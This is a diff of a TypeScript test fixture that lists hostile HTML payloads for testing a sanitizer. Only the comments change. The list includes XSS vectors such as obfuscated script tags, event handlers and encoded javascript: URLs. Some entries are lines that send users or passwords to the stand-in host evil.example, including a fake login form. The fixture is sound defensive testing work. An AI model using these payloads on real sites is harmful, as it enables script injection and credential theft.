@@ -1,9 +1,9 @@
 /**
- * Markup that a stolen editor's account or a broken upstream may send. A test defines `hit()`, which tells that a
- * script ran. The words around a payload are innocent and must stay readable.
+ * Markup that a stolen editor's account or a broken upstream may send. A test defines `hit()` to notice that
+ * a script ran.
  */
 export const hostilePayloads: readonly string[] = [
-  // Scripts, plain and in disguise.
+  // Scripts.
   '<script>hit()</script>',
   '<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>',
   '<scr<script>ipt>hit()</scr</script>ipt>',
@@ -22,7 +22,7 @@ export const hostilePayloads: readonly string[] = [
   '<title><script>hit()</script></title>',
   '<textarea></textarea><script>hit()</script>',
   '<style><style/><script>hit()</script></style>',
-  // Handlers.
+  // Event handlers.
   '<img src=x onerror=hit()>',
   '<img src="x" onerror="hit()" alt="a"onload="hit()">',
   '<img/src="x"/onerror="hit()">',
@@ -42,7 +42,7 @@ export const hostilePayloads: readonly string[] = [
   '<iframe onload=hit()></iframe>',
   '<object data=x onerror=hit()></object>',
   '<div style="animation: spin 1s" onanimationstart=hit()>Spin</div>',
-  // Addresses.
+  // URLs.
   '<a href="javascript:hit()" id="go">Link</a>',
   '<a href=" &#106;&#97;vascript&colon;hit()" id="go">Link</a>',
   '<a href="java\tscript:hit()" id="go">Link</a>',
@@ -65,7 +65,7 @@ export const hostilePayloads: readonly string[] = [
   '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
   '<form action="https://evil.example/"><input name=password placeholder="Your password"><button>Log in</button></form>',
   '<button form="search" formaction="https://evil.example/">Go</button>',
-  // What would break out of the text, or take the place of the page's own elements.
+  // Markup that breaks out of the text, or imitates the page's own elements.
   '</div></div></main></body></html>',
   '</p></div></section></article></main><footer>Another footer</footer>',
   '<h1>Another title</h1>',
@@ -76,7 +76,7 @@ export const hostilePayloads: readonly string[] = [
   '<p class="fixed inset-0 z-50">Over all</p>',
 ]
 
-/** A text with a payload in its midst, and the innocent words before and after it. */
+/** The words before and after the payload must stay readable. */
 export const textAround = (payload: string, number: number) => ({
   html: `<p>Innocent words ${number} before.</p>${payload}<p>Innocent words ${number} after.</p>`,
   before: `Innocent words ${number} before.`,
